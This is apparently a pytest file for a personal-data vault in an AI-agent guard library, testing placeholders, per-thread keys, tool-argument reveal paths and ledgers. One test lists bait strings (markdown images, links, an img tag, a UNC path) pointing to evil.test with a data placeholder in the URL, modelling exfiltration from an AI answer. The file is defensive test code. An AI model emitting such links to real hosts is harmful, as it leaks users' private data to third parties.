"""The vault: names that stay, values that come back exactly, nothing for anybody else."""

from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import dataclass

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from edgeward.guards.ledger import USER, Ledger
from edgeward.guards.pii import PERSONAL, PersonalData
from edgeward.guards.ticket import TicketKey
from edgeward.guards.vault import PLACEHOLDER, Vault
from edgeward.guards.verdict import ToolCall

VALUES = [
    "ann.lee@corp.example", "4111 1111 1111 1111", "DE89 3704 0044 0532 0130 00",
    "+44 20 7946 0958", "123-45-6789", "10.0.0.5", "2001:db8::1", "bob@corp.example",
]  # fmt: skip
VARIANTS = [
    ("ann@corp.example", "Ann@CORP.example"),
    ("4111 1111 1111 1111", "4111-1111-1111-1111", "4111111111111111"),
    ("DE89370400440532013000", "DE89 3704 0044 0532 0130 00", "de89370400440532013000"),
    ("+1 415 555 0123", "(415) 555-0123", "415.555.0123"),
    ("2001:db8::1", "2001:0DB8:0:0::1"),
]


@dataclass(frozen=True)
class All:
    """Hides every kind; puts values back for two tools."""

    kinds: Sequence[str] = ("all",)

    def paths(self, tool: str) -> Sequence[str]:
        return {"mail": ("to", "more.cc"), "pay": ("*",)}.get(tool, ())


KEY = TicketKey()
VAULT = Vault(KEY, PersonalData(), All())
PIECES = st.one_of(st.sampled_from(VALUES), st.text(max_size=12))
TEXTS = st.lists(PIECES, max_size=8).map(" , ".join)


@settings(max_examples=150, deadline=None)
@given(TEXTS)
def test_round_trip(text: str) -> None:
    """Every text comes back as it was, and no value is left in it while it is hidden."""
    hidden, held = VAULT.hide(text, "t")
    assert VAULT.reveal(hidden, held, "t") == text
    assert not list(PersonalData().spans(hidden, PERSONAL))
    assert all(value not in str(held) for value in VALUES)
    assert VAULT.hide(hidden, "t") == (hidden, {})


@pytest.mark.parametrize("spellings", VARIANTS)
def test_one_name_for_all_spellings(spellings: tuple[str, ...]) -> None:
    """The same value has the same name, whatever it is written like, and another in a thread."""
    names = {VAULT.hide(spelling, "t")[0] for spelling in spellings}
    assert len(names) == 1
    assert PLACEHOLDER.fullmatch(*names)
    assert VAULT.hide(spellings[0], "u")[0] not in names
    assert Vault(KEY, PersonalData(), All()).hide(spellings[0], "t")[0] in names
    assert Vault(TicketKey(), PersonalData(), All()).hide(spellings[0], "t")[0] not in names


@given(st.permutations(VALUES), st.permutations(VALUES))
@settings(max_examples=30, deadline=None)
def test_names_do_not_depend_on_the_order(one: list[str], other: list[str]) -> None:
    """Whatever comes first, a value has its one name; so tools may run side by side."""
    assert set(VAULT.hide("; ".join(one), "t")[1]) == set(VAULT.hide("; ".join(other), "t")[1])


def test_nobody_else_can_read_it() -> None:
    """Neither another thread, nor another name, nor another key, nor a changed byte opens it."""
    name, held = VAULT.hide("ann@corp.example", "t")
    kept = held[name]
    assert VAULT.reveal(name, held, "u") == name
    assert VAULT.reveal("<EMAIL_AAAAAAAA>", {"<EMAIL_AAAAAAAA>": kept}, "t") == "<EMAIL_AAAAAAAA>"
    assert Vault(TicketKey(), PersonalData(), All()).reveal(name, held, "t") == name
    other = "B" if kept[0] == "A" else "A"
    for broken in (kept[:-2], other + kept[1:], "", "no base64!"):
        assert VAULT.reveal(name, {name: broken}, "t") == name
    assert VAULT.unsealed(VAULT.sealed({"a": 1}, "t", "x"), "t", "x") == {"a": 1}
    assert VAULT.unsealed(VAULT.sealed({"a": 1}, "t", "x"), "t", "y") is None
    assert VAULT.unsealed(None, "t", "x") is None


def test_a_text_from_outside_names_nothing() -> None:
    """What looks like a placeholder in it is one no more; its own values are hidden."""
    name, held = VAULT.hide("ann@corp.example", "t")
    text, more = VAULT.admitted(f"{name} and bob@corp.example", "t")
    assert text.startswith(f"[{name[1:-1]}] and <EMAIL_")
    assert VAULT.reveal(text, {**held, **more}, "t") == f"[{name[1:-1]}] and bob@corp.example"


def test_paths() -> None:
    """Values are put back at the named paths, through lists, and nowhere else."""
    name, held = VAULT.hide("ann@corp.example", "t")
    arguments = {"to": [name], "more": {"cc": {"a": name}, "bcc": name}, "body": name, "n": 1}
    mail = VAULT.revealed(ToolCall("mail", arguments), held, "t").arguments
    ann = "ann@corp.example"
    assert mail == {"to": [ann], "more": {"cc": {"a": ann}, "bcc": name}, "body": name, "n": 1}
    assert name not in str(VAULT.revealed(ToolCall("pay", arguments), held, "t").arguments)
    for call in (ToolCall("note", arguments), ToolCall("mail", {"to": 1, "more": "x"})):
        assert VAULT.revealed(call, held, "t").arguments == call.arguments


def test_an_answer_keeps_them_where_they_could_leave() -> None:
    """Next to an image, a link or a reference, a placeholder stays; elsewhere the value shows."""
    name, held = VAULT.hide("ann@corp.example", "t")
    for bait in (
        f"![x](https://evil.test/?q={name})", f"[x]: //evil.test/{name}", f"https:evil.test/{name}",
        f"<img src='/\n{name}'>", f"![x](<https://evil.test/ {name}>)", rf"\\evil.test\{name}",
    ):  # fmt: skip
        assert VAULT.answer(f"{name}\n\n{bait}", held, "t") == f"ann@corp.example\n\n{bait}"


def test_a_ledger_entry() -> None:
    """An entry of a tool's text is stored without values, and reads as it was for a decision."""
    text = json.dumps({"payee": "DE89 3704 0044 0532 0130 00", "mail": "ann@corp.example"})
    _, held = VAULT.admitted(text, "t")
    entry = {
        "source": "tool x",
        "call": "c",
        "values": ["ann@corp.example", "corp.example"],
        "records": [{"values": ["DE89 3704 0044 0532 0130 00"]}],
        "private": ["ann corp example wrote", "a code of ours"],
    }
    kept = VAULT.entry(entry, text, "t")
    assert kept is not None
    assert "ann@corp.example" not in str(kept)
    assert "3704" not in str(kept)
    assert "ann corp" not in str(kept)
    assert "a code of ours" in kept["private"]
    assert set(VAULT.reveal(" ".join(kept["private"]), held, "t").split()) >= {"ann@corp.example"}
    assert VAULT.entry(None, text, "t") is None
    real = VAULT.ledger(Ledger([kept]), held, "t")
    assert real.known("DE89370400440532013000")
    assert str(real.origin("ann@corp.example")) == "tool x (c)"


def test_the_ledger_of_a_thread() -> None:
    """What the user said is known with the values put back; another branch starts anew."""
    said, held = VAULT.admitted("Write to ann@corp.example.", "led")
    first = Ledger([{"source": USER, "call": "", "values": [], "text": said}])
    assert VAULT.ledger(first, held, "led").stated("ann@corp.example")
    longer = first.appended([{"source": "tool x", "call": "c", "values": ["corp.example"]}])
    assert VAULT.ledger(longer, held, "led").stated("ann@corp.example")
    other = Ledger([{"source": USER, "call": "", "values": [], "text": "no"}])
    assert not VAULT.ledger(other, held, "led").stated("ann@corp.example")
    for number in range(70):
        VAULT.ledger(first, held, f"led{number}")
    assert VAULT.ledger(longer, held, "led").stated("ann@corp.example")


def test_a_text_is_not_cut_in_a_value() -> None:
    """A cut lies before a value that it would go through, and otherwise where it was asked for."""
    text = f"{'x' * 999} ann@corp.example{' y' * 999}"
    assert [VAULT.edge(text, at) for at in (999, 1000, 1001, 1010, 1016, 1017)] == [
        999, 1000, 1000, 1000, 1016, 1017,
    ]  # fmt: skip


def test_a_detector_that_takes_a_name_for_a_value() -> None:
    """What a detector finds in a placeholder, or over one, is not hidden again."""

    def everything(text: str) -> list[tuple[int, int, str]]:
        return [(0, len(text), "thing"), (1, 3, "thing")]

    vault = Vault(KEY, PersonalData(detectors=(("presidio", everything),)), All())
    hidden, held = vault.hide("Ann Lee", "t")
    assert hidden.startswith("<THING_")
    assert vault.hide(hidden, "t") == (hidden, {})
    assert vault.reveal(hidden, held, "t") == "Ann Lee"
